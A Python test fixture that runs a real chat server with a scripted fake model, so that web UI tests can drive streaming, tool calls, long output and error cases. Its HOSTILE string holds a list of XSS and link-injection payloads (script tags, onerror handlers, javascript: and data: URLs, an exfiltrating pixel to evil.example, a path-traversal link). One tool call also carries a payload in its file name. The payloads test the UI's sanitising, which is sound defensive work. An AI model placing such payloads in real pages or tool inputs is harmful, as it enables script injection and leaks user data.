"""A server with a model that does what the first word of the message says: what the tests of the web UI talk to.

Run as a program: `stage.py HOME PORT [SESSIONS]`, where so many sessions are made first. Prints the address once it listens.

Rule: it is the real server over the real manager; only the model plays.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Final, cast

from greenroom import AgentManager
from greenroom.backends.scripted import Call, Cue, Fail, Finish, Pause, Say, ScriptedBackend, Step, Think
from greenroom.errors import BackendUnauthorized
from greenroom.interfaces import BackendRequest
from greenroom.messages import FinishReason, TextPart, ToolMessage, Usage, UserMessage
from greenroom.server.serving import serve

TOKEN: Final = "a-token-for-the-tests-of-the-ui"

TOUR: Final = """# A short tour

Here is **bold**, *italic*, `inline code`, and a [link](https://example.org).

1. first
2. second
   - nested

> A quotation.

| Model | Tokens | Cost |
|---|---:|:---:|
| gpt-4o | 1,204 | $0.01 |
| claude | 980 | $0.02 |

```python
def knock(door: str, times: int = 3) -> str:
    # Knocks and waits.
    return f"{door} heard {times} knocks"
```

- [x] done
- [ ] to do

The end of the tour.
"""

HOSTILE: Final = """Before.

<script>window.hacked = "script"</script>
<img src=x onerror="window.hacked = 'img'">
<svg onload="window.hacked = 'svg'"><script>window.hacked = "svg script"</script></svg>
<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<a href="javascript:window.hacked='a'" id="raw">raw link</a>
<style>body { display: none }</style>
<form action="https://evil.example"><input name="x"></form>

[plain](javascript:window.hacked='link') [coded](&#106;avascript:window.hacked='coded') [data](data:text/html,<script>hacked</script>)
[blob](blob:x) [vb](vbscript:x) [slashes](//evil.example/x) [up](../../../etc/passwd) [good](https://example.org/good)

![outside](https://evil.example/pixel.png?secret=1) ![svg](data:image/svg+xml;base64,PHN2Zy8+) ![script](javascript:alert(1))

[ref]: javascript:window.hacked='ref'
[a reference][ref] <javascript:window.hacked='auto'>

```html
<script>window.hacked = "code"</script>
```

| <img src=x onerror=hacked()> | b |
|---|---|
| <b onclick=hacked()>x</b> | `<script>` |

After.
"""  # fmt: skip


PRICES: Final = """
date = "2026-11-27"
[[models]]
backend = "other"
model = "small"
input_usd = 9000.0
cached_input_usd = 100.0
output_usd = 9000.0
context_window = 40
"""
"""A model that reads little, and is dear."""


def words(count: int) -> str:
    """Returns numbered words, so that a gap or a repetition shows."""
    return " ".join(f"w{number}" for number in range(count))


def play(request: BackendRequest) -> Step:
    """Returns what the model does."""
    said = next(message for message in reversed(request.messages) if isinstance(message, UserMessage))
    text = " ".join(part.text for part in said.parts if isinstance(part, TextPart)).strip()
    command, _, rest = text.partition(" ")
    if isinstance(request.messages[-1], ToolMessage):
        return Say("All tools are done.")
    known = PLAYS.get(command.lower())
    return known(rest) if known is not None else Say(f"You said: {text}")


def _count(rest: str) -> Sequence[Cue]:
    """`count 100 20`: so many words, with so many milliseconds between them."""
    count, _, pace_ms = rest.partition(" ")
    cues: list[Cue] = []
    for number in range(int(count)):
        cues += [Say(f"w{number}" if number == 0 else f" w{number}"), Pause(int(pace_ms or "20") / 1000)]
    return cues


def _long(rest: str) -> Sequence[Cue]:
    """`long 20000 5`: so many words of Markdown, one chunk each, with so many milliseconds between them."""
    count, _, pace_ms = rest.partition(" ")
    cues: list[Cue] = []
    for number in range(int(count)):
        end = "\n\n" if number % 40 == 39 else " "
        if number % 400 == 399:
            end = "\n\n```python\nfor x in range(3):\n    print(x)\n```\n\n- one\n- two\n\n"
        cues += [Say([f"word{number}{end}"]), Pause(int(pace_ms or "5") / 1000)]
    return cues


def _tools(_: str) -> Sequence[Cue]:
    return [
        Think("First I roll the dice, then I write the file."),
        Call("roll_dice", {"notation": "4d6"}),
        Call("write_file", {"path": "notes/haiku.md", "content": "# Sea\n\nWaves arrive and leave\n"}),
        Call("read_file", {"path": "missing.txt"}),
    ]


def _hostile_tool(_: str) -> Sequence[Cue]:
    return [Call("write_file", {"path": "<img src=x onerror=alert(1)>.md", "content": HOSTILE}), Call("nope", "<b>{")]


def _say(rest: str) -> Step:
    """`say "..."`: exactly the text that the JSON is."""
    return Say([json.loads(rest)])


def _again(rest: str) -> Step:
    """`again 3000 "> "`: a model that loops."""
    count, _, text = rest.partition(" ")
    return Say(["Before.\n\n", json.loads(text) * int(count), "\n\nAfter, **bold**."])


def _call(rest: str) -> Sequence[Cue]:
    """`call write_file {...}`: one call with these arguments."""
    name, _, arguments = rest.partition(" ")
    return [Call(name, json.loads(arguments))]


def _end(rest: str) -> Sequence[Cue]:
    """`end length`: an answer that ends for this reason; `end refusal content_filter`: with this word of the provider."""
    reason, _, word = rest.partition(" ")
    usage = Usage(input_tokens=9, output_tokens=256)
    return [Say("This is as far as I"), Finish(reason=cast("FinishReason", reason), raw_reason=word, usage=usage)]


PLAYS: Final[Mapping[str, Callable[[str], Step]]] = {
    "tour": lambda _: Say(TOUR),
    "tools": _tools,
    "roll": _tools,
    "count": _count,
    "long": _long,
    "think": lambda _: [Think("I look at it from all sides."), Pause(0.4), Say("I have thought about it.")],
    "hostile": lambda _: Say([HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)]),
    "hostiletool": _hostile_tool,
    "say": _say,
    "again": _again,
    "call": _call,
    "end": _end,
    "fail": lambda _: Fail(BackendUnauthorized("the provider did not accept the key", hint="check OPENAI_API_KEY")),
}


async def _main(home: Path, port: int, sessions: int) -> None:
    backends = {"scripted": ScriptedBackend(play), "other": ScriptedBackend(play)}
    limits = {"messages_per_minute_max": 1_000_000, "requests_per_minute_max": 1_000_000}
    limits["drain_s_max"] = 1  # answers that still run at the end of a file are nobody's
    prices = home / "prices.toml"
    prices.parent.mkdir(parents=True, exist_ok=True)
    prices.write_text(PRICES, encoding="utf-8")
    config = {
        "default_backend": "scripted",
        "port": port,
        "token": TOKEN,
        "limits": limits,
        "prices": str(prices),
    }
    manager = AgentManager(home=home, config=config, backends=backends)

    for start in range(0, sessions, 500):
        await asyncio.gather(*(_make(manager, number) for number in range(start, min(start + 500, sessions))))

    def tell(address: str) -> None:
        sys.stdout.write(f"{address}\n")
        sys.stdout.flush()

    await serve(manager, token=TOKEN, on_listening=tell)


async def _make(manager: AgentManager, number: int) -> None:
    title = "Zanzibar" if number == 777 else f"Session {number}"
    await manager.create_session(backend="scripted", llm_model="demo", title=title)


if __name__ == "__main__":
    os.environ["OLLAMA_HOST"] = "127.0.0.1:1"
    asyncio.run(_main(Path(sys.argv[1]), int(sys.argv[2]), int((*sys.argv, "0")[3])))
